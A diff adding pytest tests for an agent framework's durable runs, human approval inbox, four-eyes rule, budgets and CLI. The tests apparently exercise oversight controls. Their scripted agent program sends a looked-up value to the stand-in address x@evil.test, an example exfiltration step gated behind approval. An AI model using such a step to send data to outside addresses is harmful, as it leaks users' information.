@@ -1,0 +1,168 @@
+"""Durable runs inside one process: waiting inboxes, trace links, budgets carried over, the runs and approvals CLI."""
+
+from __future__ import annotations
+
+import json
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from durable_tools import TOOLS, count
+
+from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
+from proctor.cli import main
+from proctor.errors import StoreError
+from proctor.store import ApprovalAnswer
+from proctor.testing import SpanCapture
+
+PROGRAM = "```py\nn = look(1)\nfinal_answer(send('x@evil.test', str(n)))\n```"
+
+
+def _policy(**extra: Any) -> Policy:
+    return Policy.from_dict({
+        "version": 1, "default": "deny", **extra,
+        "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
+                  {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval", "reason": "human"}],
+    })
+
+
+@pytest.fixture
+def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[RunStore, str, Path]]:
+    monkeypatch.setenv("DURABLE_COUNTER", str(tmp_path / "effects.jsonl"))
+    url = f"sqlite:///{tmp_path}/runs.db"
+    store = RunStore.open(url)
+    yield store, url, tmp_path
+    store.close()
+
+
+def _agent(store: RunStore, tmp: Path, responses: list[str], policy: Policy | None = None, wait: str = "0s",
+           **kwargs: Any) -> CodeAgent:
+    return CodeAgent(TOOLS, ScriptedModel(responses), policy or _policy(), approver=InboxApprover(store, wait=wait),
+                     audit=str(tmp / "audit.jsonl"), store=store, sandbox="process", **kwargs)
+
+
+def _suspend(store: RunStore, tmp: Path, **kwargs: Any) -> str:
+    with _agent(store, tmp, [PROGRAM], **kwargs) as agent:
+        r = agent.run("mail it", principal="alice")
+    assert r.status == "suspended" and len(r.pending) == 1
+    return r.run_id
+
+
+def test_an_answer_within_wait_moves_the_run_on_without_suspending(env: tuple[RunStore, str, Path]) -> None:
+    """An inbox that waits gets an answer given meanwhile from another connection, and the run finishes."""
+    store, url, tmp = env
+    other = RunStore.open(url)
+
+    def answer() -> None:
+        for _ in range(600):
+            pending = other.list_approvals()
+            if pending:
+                other.answer_approval(pending[0].id, ApprovalAnswer("approve", "bob"), binding=pending[0].binding)
+                return
+            time.sleep(0.05)
+
+    t = threading.Thread(target=answer)
+    t.start()
+    with _agent(store, tmp, [PROGRAM], wait="60s", policy=_policy(approval={"timeout": "2m"})) as agent:
+        r = agent.run("mail it", principal="alice")
+    t.join()
+    other.close()
+    assert r.status == "done" and r.answer == "sent 10 to x@evil.test"
+    assert store.get_run(r.run_id).status == "done"
+    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]
+
+
+def test_resumed_run_links_to_its_first_trace(env: tuple[RunStore, str, Path]) -> None:
+    """The resumed run's invoke_agent span links to the span that started the run."""
+    store, _, tmp = env
+    capture = SpanCapture()
+    with _agent(store, tmp, [PROGRAM], tracer=capture.tracer) as agent:
+        first = agent.run("mail it", principal="alice")
+        [pending] = store.list_approvals()
+        store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+        second = agent.resume(first.run_id)
+    assert second.status == "done" and second.trace_id != first.trace_id
+    runs = capture.spans("invoke_agent")
+    assert len(runs) == 2
+    [link] = runs[1].links
+    assert format(link.context.trace_id, "032x") == first.trace_id
+    assert link.context.span_id == runs[0].context.span_id
+
+
+def test_budgets_used_before_the_pause_still_count(env: tuple[RunStore, str, Path]) -> None:
+    """Budget usage of earlier steps is saved and restored: a resumed run cannot spend its budget again."""
+    store, _, tmp = env
+    policy = _policy(budgets=[{"name": "one-look", "match": {"tool": "look"}, "limit": {"calls": 1}}])
+    step2 = ("```py\nsend('x@evil.test', 'a')\ntry:\n    look(2)\nexcept BudgetExceeded as e:\n"
+             "    final_answer(str(e))\n```")
+    with _agent(store, tmp, ["```py\nlook(1)\n```", step2], policy=policy) as agent:
+        run_id = agent.run("go", principal="alice").run_id
+    [pending] = store.list_approvals()
+    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
+    with _agent(store, tmp, [], policy=policy) as agent:
+        r = agent.resume(run_id)
+    assert r.status == "done" and "one-look" in r.answer
+    assert [(c.tool, c.status, c.budget) for c in r.steps[-1].tool_calls] == [("send", "ok", None),
+                                                                               ("look", "denied", "one-look")]
+    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "send"]
+
+
+def test_a_cancelled_run_cannot_be_resumed(env: tuple[RunStore, str, Path]) -> None:
+    """Cancelling voids the pending approval; resume then refuses and nothing runs."""
+    store, url, tmp = env
+    run_id = _suspend(store, tmp)
+    assert main(["runs", "cancel", run_id, "--store", url, "--reason", "not needed"]) == 0
+    assert store.list_approvals() == []
+    with _agent(store, tmp, []) as agent, pytest.raises(StoreError, match="cancelled"):
+        agent.resume(run_id)
+    assert main(["runs", "cancel", run_id, "--store", url]) == 1
+    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look"]
+
+
+def test_runs_list_and_show_say_what_a_run_waits_for(env: tuple[RunStore, str, Path],
+                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    """`runs list --json` and `runs show --json` name the pending approval and the step's journal."""
+    store, url, tmp = env
+    run_id = _suspend(store, tmp)
+    capsys.readouterr()
+    assert main(["runs", "list", "--store", url, "--json"]) == 0
+    [run] = json.loads(capsys.readouterr().out)
+    assert run["run_id"] == run_id and run["status"] == "suspended" and run["principal"] == "alice"
+    [waiting] = run["waiting_for"]
+    assert waiting["tool"] == "send" and waiting["status"] == "pending"
+    assert main(["runs", "show", run_id, "--store", url, "--json"]) == 0
+    shown = json.loads(capsys.readouterr().out)
+    assert [(e["tool"], e["status"]) for e in shown["journal"]] == [("look", "ok")]
+    assert main(["runs", "list", "--store", url]) == 0
+    assert run_id in capsys.readouterr().out
+
+
+def test_approvals_cli_json_fields_and_refusals(env: tuple[RunStore, str, Path], capsys: pytest.CaptureFixture[str],
+                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    """`approvals list --json` has the documented fields; four eyes, double answers and bad usage are refused."""
+    store, url, tmp = env
+    run_id = _suspend(store, tmp)
+    capsys.readouterr()
+    monkeypatch.setenv("PROCTOR_STORE", url)
+    assert main(["approvals", "list", "--json"]) == 0
+    [item] = json.loads(capsys.readouterr().out)
+    for key in ("id", "run_id", "tool", "args", "binding", "principal", "rules", "reason", "requested_at"):
+        assert key in item
+    assert item["run_id"] == run_id and item["args"] == {"to": "x@evil.test", "body": "10"}
+    assert item["principal"] == "alice" and item["rules"] == ["mail"]
+    assert main(["approvals", "approve", item["id"], "--as", "alice"]) == 1  # the run's own principal
+    assert "four eyes" in capsys.readouterr().err
+    assert main(["approvals", "deny", item["id"], "--as", "bob"]) == 2  # a deny needs a reason
+    assert main(["approvals", "edit", item["id"], "--as", "bob", "--args", "[1]"]) == 2
+    assert main(["approvals", "approve", item["id"], "--as", "bob"]) == 0
+    assert main(["approvals", "approve", item["id"], "--as", "carol"]) == 1  # answered once only
+    capsys.readouterr()
+    assert main(["approvals", "show", item["id"], "--json"]) == 0
+    shown = json.loads(capsys.readouterr().out)
+    assert shown["status"] == "answered" and shown["answer"]["approver"] == "bob"
+    assert main(["approvals", "show", "apr_nope"]) == 1
+    monkeypatch.delenv("PROCTOR_STORE")
+    assert main(["approvals", "list"]) == 2
